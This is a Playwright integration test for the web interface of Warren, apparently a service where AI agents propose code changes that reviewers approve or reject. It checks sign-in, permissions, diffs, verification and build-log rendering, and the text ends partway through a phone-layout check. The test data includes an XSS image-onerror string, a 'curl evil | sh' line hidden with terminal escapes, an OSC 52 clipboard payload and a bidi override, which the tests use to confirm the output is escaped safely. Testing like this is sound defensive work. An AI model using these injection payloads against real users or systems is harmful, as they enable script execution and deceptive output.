// The web UI in Debian's Chromium, driven by playwright-core; run by
// tests/integration/web.sh, which starts the server (replay model, a bare
// remote) and makes the tokens. Prints one "PASS name" or "FAIL name: why"
// line per check, "TIME what: N ms" lines for the timings, and saves
// screenshots of the main pages to $OUT_DIR.
//
// Environment: WARREN_URL, ADMIN_TOKEN, ALICE_TOKEN (submitter), CAROL_TOKEN
// (submitter), BOB_TOKEN (reviewer), REMOTE (the bare repository), REPO (its
// name on the server), OUT_DIR, CHROMIUM (default /usr/bin/chromium).

/* global sessionStorage, window, document -- the page's, inside page.evaluate() */

import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const env = (k, d) => {
  const v = process.env[k] ?? d;
  if (v === undefined) {
    console.log(`FAIL environment: ${k} is not set`);
    process.exit(2);
  }
  return v;
};
const BASE = env('WARREN_URL').replace(/\/$/, '');
const ADMIN = env('ADMIN_TOKEN');
const ALICE = env('ALICE_TOKEN');
const CAROL = env('CAROL_TOKEN');
const BOB = env('BOB_TOKEN');
const REMOTE = env('REMOTE');
const REPO = env('REPO', 'greeter');
const BROKEN = env('BROKEN_REPO', 'broken'); // its snapshot build fails in a hook
const OUT = env('OUT_DIR');
const CHROMIUM = env('CHROMIUM', '/usr/bin/chromium');
const STEP_MS = 20000; // one wait
const RUN_MS = 120000; // a session from submit to review

mkdirSync(OUT, { recursive: true });

// ---- results ---------------------------------------------------------------

let failures = 0;
const timings = [];
// one line, without the terminal colours of Playwright's call logs
const oneLine = (s) =>
  String(s)
    .replace(/\x1b\[[0-9;]*m/g, '')
    .split('\n')
    .filter(Boolean)
    .slice(0, 3)
    .join(' | ')
    .slice(0, 400);

function pass(name) {
  console.log(`PASS ${name}`);
}

function fail(name, why) {
  failures++;
  console.log(`FAIL ${name}: ${oneLine(why)}`);
}

// check(name, fn): fn throws (or returns a string) to fail. Returns success.
async function check(name, fn) {
  try {
    const r = await fn();
    if (typeof r === 'string') {
      fail(name, r);
      return false;
    }
    pass(name);
    return true;
  } catch (e) {
    fail(name, e && e.message ? e.message : e);
    return false;
  }
}

function skip(name, why) {
  fail(name, `not checked: ${why}`);
}

function time(what, ms) {
  timings.push(`${what}: ${Math.round(ms)} ms`);
  console.log(`TIME ${what}: ${Math.round(ms)} ms`);
}

function assert(cond, why) {
  if (!cond) throw new Error(why);
}

// ---- the API, for set-up and for checks on the host --------------------------

async function api(token, method, path, body) {
  const res = await fetch(`${BASE}/api/v1${path}`, {
    method,
    headers: { Authorization: `Bearer ${token}`, ...(body ? { 'Content-Type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await res.text();
  let json = null;
  try {
    json = JSON.parse(text);
  } catch {
    /* not JSON */
  }
  return { status: res.status, json, text };
}

async function waitState(token, id, states, ms) {
  const end = Date.now() + ms;
  let last = null;
  while (Date.now() < end) {
    const r = await api(token, 'GET', `/sessions/${id}`);
    last = r.json && r.json.state;
    if (states.includes(last)) return last;
    if (['failed', 'cancelled', 'expired'].includes(last)) break;
    await new Promise((r2) => setTimeout(r2, 200));
  }
  throw new Error(`session ${id} is ${last}, not ${states.join('/')}`);
}

function git(...args) {
  return execFileSync('git', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
}

// ---- the browser -----------------------------------------------------------------

// Off the network: every name resolves to nothing but loopback, anything that
// still tries goes to a proxy on a closed port (loopback bypasses proxies),
// and the background services that phone home are off.
const ARGS = [
  '--no-sandbox', // root in CI
  '--headless=new',
  '--proxy-server=http://127.0.0.1:9',
  '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--disable-default-apps',
  '--disable-domain-reliability',
  '--disable-client-side-phishing-detection',
  '--disable-breakpad',
  '--no-pings',
  '--no-first-run',
  '--no-default-browser-check',
  '--metrics-recording-only',
  '--disable-dev-shm-usage',
  '--disable-gpu',
  '--disable-features=Translate,OptimizationHints,MediaRouter,DialMediaRouteProvider,AutofillServerCommunication,CertificateTransparencyComponentUpdater,InterestFeedContentSuggestions,CalculateNativeWinOcclusion',
];

const problems = []; // script errors and CSP violations, from every page

function watch(page, who) {
  page.on('pageerror', (e) => problems.push(`${who}: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() !== 'error') return;
    const t = m.text();
    // an API's 401/404/409 answer is logged by the browser: expected here
    if (/^Failed to load resource: the server responded with a status of (401|403|404|409)/.test(t)) return;
    problems.push(`${who}: ${t}`);
  });
}

async function shot(page, name, opts = {}) {
  await page.waitForTimeout(250); // let charts and fonts settle
  await page.screenshot({ path: join(OUT, `${name}.png`), ...opts });
}

async function signIn(page, token, { expectUser } = {}) {
  await page.locator('#token').fill(token);
  await page.locator('form.signin-card button[type=submit]').click();
  await page.locator('#nav:not([hidden])').waitFor({ timeout: STEP_MS });
  if (expectUser) {
    const me = await page.locator('#me .me-user').textContent();
    assert(me === expectUser, `signed in as ${me}, want ${expectUser}`);
  }
}

async function signOut(page) {
  await page.locator('#signout').click();
  await page.locator('#token').waitFor({ timeout: STEP_MS });
}

async function waitHeaderState(page, state, ms) {
  await page.locator(`.session-meta .badge[data-state="${state}"]`).waitFor({ timeout: ms });
}

// ---- the scenario ------------------------------------------------------------------

async function main() {
  let browser;
  try {
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS, timeout: 60000 });
  } catch (e) {
    fail('Chromium starts (headless, off the network)', e.message);
    return;
  }
  pass('Chromium starts (headless, off the network)');
  try {
    await scenario(browser);
  } finally {
    await browser.close();
  }
}

async function scenario(browser) {
  // a session of alice's made through the API, so that her list has a row
  // at sign-in; its prompt holds markup that must show as text
  const seedPrompt = 'Tidy the greeting <b>now</b> <img src=x onerror="window.__xss=1">';
  let seedId = null;
  await check("set-up: a session of alice's through the API reaches review", async () => {
    const r = await api(ALICE, 'POST', '/sessions', { repo: REPO, prompt: seedPrompt });
    assert(r.status === 201, `POST /sessions: ${r.status} ${r.text}`);
    seedId = r.json.id;
    await waitState(ALICE, seedId, ['review'], RUN_MS);
  });

  // a session whose verification fails: its agent (a command) rewrites the
  // test into one that prints 150 lines, then PASSED and FAILED in colour,
  // and exits 1; every attempt fails the same way. Waited for further on.
  const redAgent = String.raw`cat >test.sh <<'T'
#!/bin/sh
seq 1 150
e=$(printf '')
echo "$e[0;32mPASSED$e[0m one"
echo "$e[0;31mFAILED$e[0m two"
exit 1
T`;
  let redId = null;
  await check('set-up: a session whose verification fails (a command agent, through the API)', async () => {
    const r = await api(BOB, 'POST', '/sessions', { repo: REPO, prompt: 'Break the test', agent: ['sh', '-c', redAgent] });
    assert(r.status === 201, `POST /sessions: ${r.status} ${r.text}`);
    redId = r.json.id;
  });

  const desk = await browser.newContext({ viewport: { width: 1360, height: 900 }, colorScheme: 'light' });
  const page = await desk.newPage();
  watch(page, 'desktop');

  // -- sign-in ------------------------------------------------------------------
  await check('GET / serves the sign-in page with a strict Content-Security-Policy', async () => {
    const res = await page.goto(`${BASE}/`);
    const csp = res.headers()['content-security-policy'] || '';
    assert(res.status() === 200, `status ${res.status()}`);
    assert(/script-src 'self'/.test(csp) && /style-src 'self'/.test(csp) && !/unsafe-inline/.test(csp), `CSP: ${csp}`);
    await page.locator('#token').waitFor({ timeout: STEP_MS });
    assert(
      (await page.locator('label[for=token]').textContent()).includes('API token'),
      'no label for the token field',
    );
    await shot(page, '01-sign-in');
  });

  await check('a malformed token is refused before any request', async () => {
    await page.locator('#token').fill('not-a-token');
    await page.locator('form.signin-card button[type=submit]').click();
    const t = await page.locator('#signin-error').textContent({ timeout: STEP_MS });
    assert(/does not look like a Warren token/.test(t), `error: ${t}`);
  });

  await check('a bad token shows an error and stays on sign-in', async () => {
    await page.locator('#token').fill(`wr_${'A'.repeat(43)}`);
    await page.locator('form.signin-card button[type=submit]').click();
    await page.locator('#signin-error', { hasText: 'did not accept' }).waitFor({ timeout: STEP_MS });
    assert(await page.locator('#nav').isHidden(), 'the navigation is shown');
    assert((await page.evaluate(() => sessionStorage.getItem('warren.token'))) === null, 'the bad token was stored');
    await shot(page, '01b-sign-in-error');
  });

  // -- alice: her list, a new session, live to review, the diff ----------------------
  let signedIn = await check('alice signs in; her session is in the live list', async () => {
    const t0 = Date.now();
    await signIn(page, ALICE, { expectUser: 'alice' });
    await page.locator(`tr[data-id="${seedId}"]`).waitFor({ timeout: STEP_MS });
    time('sign-in to first session row', Date.now() - t0);
    assert((await page.locator('#me .role').textContent()) === 'submitter', 'role not shown');
    const token = await page.evaluate(() => sessionStorage.getItem('warren.token'));
    assert(token === ALICE, 'the token is not in sessionStorage');
    assert(!page.url().includes(ALICE), 'the token is in the URL');
  });

  if (signedIn) {
    await check('untrusted text is shown as text, not markup', async () => {
      const link = page.locator(`tr[data-id="${seedId}"] .row-link`);
      const text = await link.textContent();
      assert(text.includes('<b>now</b>'), `row text: ${text}`);
      assert((await link.locator('b, img').count()) === 0, 'markup from the prompt became elements');
      assert((await page.evaluate(() => window.__xss)) === undefined, 'an onerror handler ran');
    });
    await shot(page, '02-sessions');
  } else {
    skip('untrusted text is shown as text, not markup', 'sign-in failed');
  }

  let sid = null;
  const okForm =
    signedIn &&
    (await check('the new-session form offers the repository', async () => {
      await page.locator('#nav a[href="#/new"]').click();
      await page.locator('#repo').waitFor({ timeout: STEP_MS });
      const options = await page.locator('#repo option').allTextContents();
      assert(options.includes(REPO), `options: ${options}`);
      await page.locator('#repo').selectOption(REPO);
      await page.locator('#prompt').fill('Make the greeting friendlier, and show it on a small page.');
      await shot(page, '03-new-session');
    }));

  const okStart =
    okForm &&
    (await check('submit opens the session page, streaming', async () => {
      const t0 = Date.now();
      await page.locator('form.form button[type=submit]').click();
      await page.waitForURL(/#\/sessions\/s-[0-9a-f]{16}/, { timeout: STEP_MS });
      sid = page.url().match(/s-[0-9a-f]{16}/)[0];
      await page.locator('.timeline .ev').first().waitFor({ timeout: STEP_MS });
      time('submit to session page streaming', Date.now() - t0);
    }));

  const okLive =
    okStart &&
    (await check('the session page follows it live: running, then review', async () => {
      await waitHeaderState(page, 'running', STEP_MS);
      await page.locator('.stream-state.is-live').waitFor({ timeout: STEP_MS });
      await shot(page, '04a-session-running');
      const t0 = Date.now();
      await waitHeaderState(page, 'review', RUN_MS);
      time('running to review, as the page saw it', Date.now() - t0);
      assert((await page.locator('.tool-call[data-tool="bash"]').count()) > 0, 'no bash tool call in the timeline');
      assert(
        (await page.locator('.ev-state .badge[data-state="review"]').count()) === 1,
        'no review state event in the timeline',
      );
    }));

  if (okLive) {
    await check('the diff shows the files and their added lines', async () => {
      await page.locator('#tab-changes').click();
      await page.locator('.diff-file').first().waitFor({ timeout: STEP_MS });
      const paths = await page.locator('.diff-path').allTextContents();
      assert(paths.includes('greeting.txt') && paths.includes('page.html'), `files: ${paths}`);
      const added = await page.locator('#panel-changes .d-add .code').allTextContents();
      assert(added.includes('+hello, friend'), `added lines: ${added.slice(0, 4)}`);
      const removed = await page.locator('#panel-changes .d-del .code').allTextContents();
      assert(removed.includes('-hello'), `removed lines: ${removed}`);
      assert((await page.locator('#panel-changes .d-hunk').count()) >= 2, 'no hunk headers');
      await shot(page, '04-session-diff');
    });
    await check('keyboard: arrow keys move between the tabs', async () => {
      await page.locator('#tab-changes').focus();
      await page.keyboard.press('ArrowRight');
      assert((await page.locator('#tab-verify').getAttribute('aria-selected')) === 'true', 'Verification not selected');
      assert(await page.evaluate(() => document.activeElement.id === 'tab-verify'), 'focus did not move');
    });
    await check('verification shows the passed run with its command', async () => {
      await page.locator('#tab-verify').click();
      await page.locator('.verify-banner.is-pass').waitFor({ timeout: STEP_MS });
      const cmd = await page.locator('#panel-verify .verify-cmd code').first().textContent();
      assert(cmd.includes('sh test.sh'), `command: ${cmd}`);
    });
    await check("the agent's screenshot is shown (fetched with the token, as a blob: URL)", async () => {
      await page.locator('#tab-screenshots').click();
      const img = page.locator('#panel-screenshots img');
      await img.waitFor({ timeout: STEP_MS });
      await page.waitForFunction(
        () => {
          const i = document.querySelector('#panel-screenshots img');
          return i && i.complete && i.naturalWidth > 0;
        },
        null,
        { timeout: STEP_MS },
      );
      assert((await img.getAttribute('src')).startsWith('blob:'), 'not a blob: URL');
      await shot(page, '05-session-screenshot');
    });
    await check('cost and timings are shown', async () => {
      const side = await page.locator('.session-side').textContent();
      assert(
        /to start/.test(side) && /Prompt tokens/.test(side) && /cost/.test(side),
        'side panel lacks timings or usage',
      );
      assert((await page.locator('.session-side svg.chart').count()) >= 1, 'no start-up chart');
    });
    await check('alice (submitter) has no approve or reject button, but may cancel her own', async () => {
      assert((await page.locator('[data-action="approve"]').count()) === 0, 'approve shown');
      assert((await page.locator('[data-action="reject"]').count()) === 0, 'reject shown');
      assert((await page.locator('[data-action="cancel"]').count()) === 1, 'cancel missing');
      assert((await page.locator('#followup-text').count()) === 1, 'follow-up form missing');
    });
    await page.locator('#tab-activity').click();
    await shot(page, '06-session-activity', { fullPage: true });
  } else {
    for (const n of [
      'the diff shows the files and their added lines',
      'keyboard: arrow keys move between the tabs',
      'verification shows the passed run with its command',
      "the agent's screenshot is shown (fetched with the token, as a blob: URL)",
      'cost and timings are shown',
      'alice (submitter) has no approve or reject button, but may cancel her own',
    ])
      skip(n, 'the session did not reach review on the page');
  }

  if (signedIn) {
    await check('repositories (submitter): a failed build shows its error, but no link to its log', async () => {
      await page.locator('#nav a[href="#/repositories"]').click();
      const card = page.locator('.repo-card', { hasText: BROKEN });
      await card.locator('[data-build="failed"]').waitFor({ timeout: STEP_MS });
      const text = await card.textContent();
      assert(text.includes('hook onCreateCommand failed with status 3'), `no error: ${oneLine(text)}`);
      assert((await page.locator('.build-log-link').count()) === 0, 'a log link shown to a submitter');
    });
    await check('sign out removes the token', async () => {
      await signOut(page);
      assert((await page.evaluate(() => sessionStorage.getItem('warren.token'))) === null, 'token still stored');
    });
  }

  // -- carol: sees nothing of alice's ------------------------------------------------
  const carolIn = await check('carol (another submitter) signs in', () => signIn(page, CAROL, { expectUser: 'carol' }));
  if (carolIn) {
    await check("carol's list does not show alice's sessions", async () => {
      await page.locator('.empty h2', { hasText: 'You have no sessions yet' }).waitFor({ timeout: STEP_MS });
      assert((await page.locator('tr[data-id]').count()) === 0, 'rows shown');
    });
    await check("carol gets 'not found' for alice's session by its address", async () => {
      const target = sid || seedId;
      await page.goto(`${BASE}/#/sessions/${target}`);
      await page.locator('h1', { hasText: 'Session not found' }).waitFor({ timeout: STEP_MS });
      assert((await page.locator('.session-meta').count()) === 0, 'session shown');
    });
    await signOut(page);
  } else {
    skip("carol's list does not show alice's sessions", 'carol could not sign in');
    skip("carol gets 'not found' for alice's session by its address", 'carol could not sign in');
  }

  // -- bob: a Slack-style deep link, approve, reject ------------------------------------
  const target = sid || seedId;
  const bobIn = await check('a link to #/sessions/<id> opens that session after sign-in (bob, reviewer)', async () => {
    await page.goto(`${BASE}/#/sessions/${target}`);
    await page.locator('#token').waitFor({ timeout: STEP_MS });
    await signIn(page, BOB, { expectUser: 'bob' });
    await page.locator('.session-meta').waitFor({ timeout: STEP_MS });
    assert(
      page.url().endsWith(`#/sessions/${target}`) || page.url().includes(`#/sessions/${target}?`),
      `at ${page.url()}`,
    );
  });

  if (bobIn && okLive) {
    await check("bob (reviewer) sees approve and reject, not cancel, on alice's session", async () => {
      await page.locator('[data-action="approve"]').waitFor({ timeout: STEP_MS });
      assert((await page.locator('[data-action="reject"]').count()) === 1, 'reject missing');
      assert((await page.locator('[data-action="cancel"]').count()) === 0, 'cancel shown');
      assert((await page.locator('#followup-text').count()) === 0, 'follow-up shown');
    });
    const approved = await check('approve: the page shows it pushed', async () => {
      await page.locator('[data-action="approve"]').click();
      await page.locator('.panel-approve button[type=submit]').click();
      await waitHeaderState(page, 'pushed', STEP_MS);
      const pushed = await page.locator('.pushed').textContent({ timeout: STEP_MS });
      assert(pushed.includes(`refs/heads/warren/${sid}`), `push: ${pushed}`);
      await shot(page, '07-session-pushed');
    });
    if (approved) {
      await check('the branch reached the bare remote (git on the host)', async () => {
        const r = await api(BOB, 'GET', `/sessions/${sid}`);
        const want = r.json && r.json.outcome && r.json.outcome.push && r.json.outcome.push.commit;
        const got = git('-C', REMOTE, 'rev-parse', `refs/heads/warren/${sid}`);
        assert(want && got === want, `remote has ${got}, the session says ${want}`);
        const content = git('-C', REMOTE, 'show', `refs/heads/warren/${sid}:greeting.txt`);
        assert(content === 'hello, friend', `greeting.txt on the branch: ${content}`);
      });
      await check('"took" is created to review; the review time is shown apart', async () => {
        const r = (await api(BOB, 'GET', `/sessions/${sid}`)).json;
        const d = r.outcome.decision;
        const toReview = d.at_ms - d.review_ms - r.created_ms;
        assert(toReview > 0 && toReview <= r.finished_ms - r.created_ms, `to review ${toReview} ms`);
        const side = await page.locator('.session-side').textContent();
        assert(/Took\s*\d[\d\s.,a-z]*to review/.test(side), `took: ${oneLine(side).slice(0, 300)}`);
        assert(/to the decision/.test(side), `no review time: ${oneLine(side).slice(0, 300)}`);
      });
    } else {
      skip('the branch reached the bare remote (git on the host)', 'the approval through the page failed');
    }
  } else {
    skip(
      "bob (reviewer) sees approve and reject, not cancel, on alice's session",
      'no session in review or bob not signed in',
    );
    skip('approve: the page shows it pushed', 'no session in review or bob not signed in');
    skip('the branch reached the bare remote (git on the host)', 'no approval');
  }

  if (bobIn && seedId) {
    await check('reject with a reason: rejected, the reason kept, nothing pushed', async () => {
      await page.goto(`${BASE}/#/sessions/${seedId}`);
      await page.locator('[data-action="reject"]').click();
      await page.locator('#reject-reason').fill('Split the page out into its own change.');
      await page.locator('.panel-reject button[type=submit]').click();
      await waitHeaderState(page, 'rejected', STEP_MS);
      const side = await page.locator('.session-side').textContent();
      assert(side.includes('Split the page out into its own change.'), 'reason not shown');
      let branch = '';
      try {
        branch = git('-C', REMOTE, 'rev-parse', '--verify', '-q', `refs/heads/warren/${seedId}`);
      } catch {
        branch = '';
      }
      assert(branch === '', `a branch was pushed: ${branch}`);
    });
    await check("the list is live and filters by state and user (bob sees alice's)", async () => {
      await page.locator('#nav a[href="#/sessions"]').click();
      await page.locator('#f-user').waitFor({ timeout: STEP_MS });
      await page.locator(`tr[data-id="${seedId}"][data-state="rejected"]`).waitFor({ timeout: STEP_MS });
      await page.locator('#f-user').selectOption('alice');
      await page.locator('#f-state').selectOption('=rejected');
      await page.waitForFunction(() => document.querySelectorAll('tr[data-id]').length === 1, null, {
        timeout: STEP_MS,
      });
      const rows = await page.locator('tr[data-id]').evaluateAll((trs) => trs.map((t) => t.dataset.id));
      assert(rows.length === 1 && rows[0] === seedId, `rows: ${rows}`);
      assert(
        page.url().includes('state=rejected') && page.url().includes('user=alice'),
        `filters not in the address: ${page.url()}`,
      );
      await page.locator('#f-state').selectOption('');
      await page.locator('#f-user').selectOption('');
      await page.waitForFunction(() => document.querySelectorAll('tr[data-id]').length >= 2, null, {
        timeout: STEP_MS,
      });
      await shot(page, '08-sessions-reviewer');
    });
    await check('keyboard: the skip link is the first stop and moves focus to the content', async () => {
      // a fresh load (the token stays in sessionStorage): Tab starts at the top
      await page.reload();
      await page.locator('tr[data-id]').first().waitFor({ timeout: STEP_MS });
      await page.keyboard.press('Tab');
      assert(
        await page.evaluate(() => document.activeElement.id === 'skip-link'),
        'the first Tab stop is not the skip link',
      );
      await page.keyboard.press('Enter');
      assert(await page.evaluate(() => document.activeElement.id === 'main'), 'focus did not move to the content');
    });
    await check('repositories: the snapshot and its build breakdown; no refresh for a reviewer', async () => {
      await page.locator('#nav a[href="#/repositories"]').click();
      const card = page.locator('.repo-card', { hasText: REPO });
      await card.waitFor({ timeout: STEP_MS });
      const main = git('-C', REMOTE, 'rev-parse', 'main').slice(0, 10);
      assert((await card.locator('.snap-table code').first().textContent()) === main, `snapshot commit is not ${main}`);
      await card.locator('.snap-table svg.chart').first().waitFor({ timeout: STEP_MS });
      assert((await page.locator('[data-action="refresh"]').count()) === 0, 'refresh shown to a reviewer');
      await shot(page, '09-repositories');
    });
    await check('repositories: the build bar shows the phases only, the total beside it; the refresh in effect', async () => {
      const card = page.locator('.repo-card', { hasText: REPO });
      const labels = await card.locator('.legend-label').allTextContents();
      assert(labels.length >= 3, `phases: ${labels}`);
      assert(!labels.includes('refresh') && !labels.includes('total'), `a sum drawn as a phase: ${labels}`);
      const snaps = await api(BOB, 'GET', '/snapshots');
      const repo = (await api(BOB, 'GET', '/repositories')).json.repositories.find((r) => r.name === REPO);
      const newest = snaps.json.snapshots.filter((x) => x.repo_id === repo.id).sort((x, y) => y.created_ms - x.created_ms)[0];
      const total = newest.timings.find((t) => t.phase === 'total').ms;
      const phaseSum = newest.timings.filter((t) => !['total', 'refresh'].includes(t.phase)).reduce((n, t) => n + t.ms, 0);
      assert(phaseSum <= total * 1.05, `the phases (${phaseSum} ms) exceed the build's total (${total} ms)`);
      // the segments fill the bar once: their widths sum to the track's
      const widths = await card
        .locator('.snap-table tbody tr')
        .first()
        .evaluate((tr) => {
          const svg = tr.querySelector('svg.chart');
          const track = Number(svg.querySelector('.ch-track').getAttribute('width'));
          const segs = [...svg.querySelectorAll('.ch-seg')].reduce((n, r) => n + Number(r.getAttribute('width')), 0);
          return { track, segs };
        });
      assert(widths.segs <= widths.track + 1, `segments ${widths.segs} > track ${widths.track}`);
      assert(widths.segs >= widths.track * 0.9, `segments ${widths.segs} fill less than the track ${widths.track}`);
      const facts = await card.locator('.facts').textContent();
      assert(/every 30 min \(the default\)/.test(facts), `refresh: ${oneLine(facts)}`);
    });
    let logHref = null;
    await check('repositories: a failed build shows its error and failing hook, not "No snapshot yet"', async () => {
      const card = page.locator('.repo-card', { hasText: BROKEN });
      const callout = card.locator('[data-build="failed"]');
      await callout.waitFor({ timeout: STEP_MS });
      const text = await card.textContent();
      assert(text.includes('hook onCreateCommand failed with status 3'), `error: ${oneLine(text)}`);
      assert(!text.includes('No snapshot yet'), 'says "No snapshot yet" for a failed build');
      assert(!/\x1b|\[0;31m/.test(text), 'raw colour codes shown');
      const row = card.locator('.build-table tr[data-state="failed"]').first();
      assert((await row.locator('td[data-label="Hook"]').textContent()) === 'onCreateCommand', 'failing hook not in the builds table');
      assert(/failed with status 3/.test(await row.locator('td[data-label="Error"]').textContent()), 'error not in the builds table');
      assert(/[0-9]/.test(await row.locator('td[data-label="Took"]').textContent()), 'no duration in the builds table');
      logHref = await row.locator('a.build-log-link').getAttribute('href');
      assert(logHref && logHref.startsWith('#/repositories/'), `log link: ${logHref}`);
      await shot(page, '09b-repositories-failed-build', { fullPage: true });
    });
    if (logHref) {
      await check("a failed build's log link opens its log (reviewer), colours rendered, at its end", async () => {
        await page.locator(`a.build-log-link[href="${logHref}"]`).first().click();
        const log = page.locator('.build-log-text');
        await log.waitFor({ timeout: STEP_MS });
        const text = await log.textContent();
        assert(text.includes('BUILD-BOOM at the end'), `log: ${oneLine(text).slice(0, 200)}`);
        assert(!/\x1b|\[0;31m/.test(text), 'raw colour codes in the log');
        assert((await log.locator('.ansi-fg-1', { hasText: 'BUILD-BOOM' }).count()) >= 1, 'BUILD-BOOM not red');
        const head = await page.locator('#main').textContent();
        assert(head.includes('onCreateCommand') && head.includes('failed'), `build facts: ${oneLine(head).slice(0, 200)}`);
        await page.waitForFunction(
          () => {
            const el = document.querySelector('.build-log-text');
            return el.scrollHeight - el.clientHeight - el.scrollTop < 4;
          },
          null,
          { timeout: STEP_MS },
        );
        await shot(page, '09c-build-log');
      });
    } else {
      skip("a failed build's log link opens its log (reviewer), colours rendered, at its end", 'no log link');
    }
    if (redId) {
      await check('a failed verification opens at the failure: the last attempt, its failing command, colours rendered', async () => {
        await waitState(BOB, redId, ['review'], RUN_MS);
        const v = (await api(BOB, 'GET', `/sessions/${redId}`)).json.outcome.verify;
        assert(v && v.passed === false && v.attempts === 3, `verify: ${JSON.stringify(v).slice(0, 200)}`);
        // the address of the tab (a click could race the page's first layout)
        await page.goto(`${BASE}/#/sessions/${redId}?tab=verify`);
        await page.locator('.verify-banner.is-fail').waitFor({ timeout: STEP_MS });
        const runs = page.locator('#panel-verify details.verify-run');
        await page.waitForFunction(() => document.querySelectorAll('#panel-verify details.verify-run').length === 3, null, {
          timeout: STEP_MS,
        });
        const open = await runs.evaluateAll((ds) => ds.map((d) => d.open));
        assert(JSON.stringify(open) === '[false,false,true]', `open attempts: ${open}`);
        const failed = page.locator('#panel-verify details.verify-run[open] li[data-failure]').first();
        const out = failed.locator('pre');
        const text = await out.textContent();
        assert(text.includes('FAILED two') && text.includes('PASSED one'), `output: ${oneLine(text).slice(-120)}`);
        assert(!/\x1b|\[0;3[12]m/.test(text), 'raw colour codes in the verification output');
        assert((await out.locator('.ansi-fg-1', { hasText: 'FAILED' }).count()) === 1, 'FAILED not red');
        assert((await out.locator('.ansi-fg-2', { hasText: 'PASSED' }).count()) === 1, 'PASSED not green');
        // the failing command in view, its output at its end (FAILED two)
        await page.waitForFunction(
          () => {
            const li = document.querySelector('#panel-verify details.verify-run[open] li[data-failure]');
            const pre = li && li.querySelector('pre');
            if (!pre) return false;
            const r = li.getBoundingClientRect();
            return r.top >= -2 && r.top < window.innerHeight && pre.scrollHeight - pre.clientHeight - pre.scrollTop < 4;
          },
          null,
          { timeout: STEP_MS },
        );
        assert(await page.locator('#panel-verify').isVisible(), 'the verification panel is hidden');
        const dims = await out.evaluate((p) => `${p.scrollHeight}/${p.clientHeight}/${p.scrollTop}`);
        assert(await out.evaluate((p) => p.scrollHeight > p.clientHeight), `the output does not scroll (${dims}): the check proves nothing`);
        await shot(page, '09d-verify-failure');
      });
    } else {
      skip('a failed verification opens at the failure: the last attempt, its failing command, colours rendered', 'no session');
    }
    await check("output's terminal escapes are harmless: nothing hidden, no raw control, no bidi override", async () => {
      const got = await page.evaluate(async () => {
        const t = await import('/js/terminal.js');
        const pre = t.terminal(
          'curl evil | sh\r\x1b[2Kinnocent\n\x1b]52;c;ZXZpbA==\x07clip \x9b31mred8\x1b[0m \u202eabc\x7f\x1b[1mB\x1b[22m',
        );
        return {
          text: pre.textContent,
          red: [...pre.querySelectorAll('.ansi-fg-1')].map((e) => e.textContent),
          bold: [...pre.querySelectorAll('.ansi-bold')].map((e) => e.textContent),
          marks: [...pre.querySelectorAll('.ctl')].map((e) => e.textContent),
        };
      });
      assert(got.text.includes('curl evil | sh\ninnocent'), `a CR hid a line: ${JSON.stringify(got.text)}`);
      assert(!/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(got.text.replace(/\n/g, '')), `a raw control: ${JSON.stringify(got.text)}`);
      assert(!got.text.includes('ZXZpbA'), 'the OSC 52 payload is shown');
      assert(JSON.stringify(got.red) === '["red8"]' && JSON.stringify(got.bold) === '["B"]', `styles: ${JSON.stringify(got)}`);
      assert(JSON.stringify(got.marks) === '["\\\\u202e","^?"]', `marks: ${JSON.stringify(got.marks)}`);
    });
    await check('stats: the numbers and their charts', async () => {
      await page.locator('#nav a[href="#/stats"]').click();
      await page.locator('.tiles').waitFor({ timeout: STEP_MS });
      await page.waitForFunction(() => document.querySelectorAll('.stats svg.chart').length >= 5, null, {
        timeout: STEP_MS,
      });
      const accepted = await page
        .locator('.tile', { hasText: 'Accepted per reviewer minute' })
        .locator('.tile-value')
        .textContent();
      assert(/^[0-9]/.test(accepted), `accepted per reviewer minute: ${accepted}`);
      const cost = await page
        .locator('.tile', { hasText: 'Cost per accepted change' })
        .locator('.tile-value')
        .textContent();
      assert(/^[0-9<]/.test(cost), `cost per accepted change: ${cost}`);
      assert((await page.locator('#latency-phase option').count()) >= 1, 'no start-latency phases');
      assert(
        (await page.locator('.chart-card', { hasText: 'Start latency' }).locator('svg.chart rect.ch-bar').count()) >= 1,
        'empty latency histogram',
      );
      await shot(page, '10-stats', { fullPage: true });
    });
    await signOut(page);
  }

  // -- admin: refresh now ----------------------------------------------------------------
  await check('admin: "Refresh now" queues a snapshot build', async () => {
    await signIn(page, ADMIN, { expectUser: 'admin' });
    await page.locator('#nav a[href="#/repositories"]').click();
    const b = page.locator('.repo-card', { hasText: REPO }).locator('[data-action="refresh"]');
    await b.click();
    await page.locator('#announcer', { hasText: 'queued' }).waitFor({ timeout: STEP_MS });
    await signOut(page);
  });

  // -- a token revoked while in use: back to sign-in --------------------------------------
  await check('a revoked token sends the user back to sign-in with a note', async () => {
    const name = `carol-${Date.now()}`;
    const made = await api(ADMIN, 'POST', '/tokens', { user: 'carol', role: 'submitter', name });
    assert(made.status === 201, `token: ${made.status}`);
    await signIn(page, made.json.token, { expectUser: 'carol' });
    const r = await api(ADMIN, 'DELETE', `/tokens/${name}`);
    assert(r.status === 200, `revoke: ${r.status}`);
    await page.locator('#nav a[href="#/new"]').click();
    await page.locator('.signin .callout', { hasText: 'did not accept' }).waitFor({ timeout: STEP_MS });
    assert(
      (await page.evaluate(() => sessionStorage.getItem('warren.token'))) === null,
      'the revoked token is still stored',
    );
  });
  await desk.close();

  // -- a phone ----------------------------------------------------------------------------
  const phone = await browser.newContext({
    viewport: { width: 390, height: 844 },
    deviceScaleFactor: 2,
    isMobile: true,
    hasTouch: true,
  });
  const pp = await phone.newPage();
  watch(pp, 'phone');
  await check('phone width: the list, a session and the stats fit without sideways scrolling', async () => {
    await pp.goto(`${BASE}/#/sessions`);
    await pp.locator('#token').waitFor({ timeout: STEP_MS });
    await shot(pp, '11-phone-sign-in');
    await signIn(pp, BOB, { expectUser: 'bob' });
    await pp.locator('tr[data-id]').first().waitFor({ timeout: STEP_MS });
    const wide = () => pp.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    let over = await wide();
    assert(over <= 1, `the list is ${over}px too wide`);
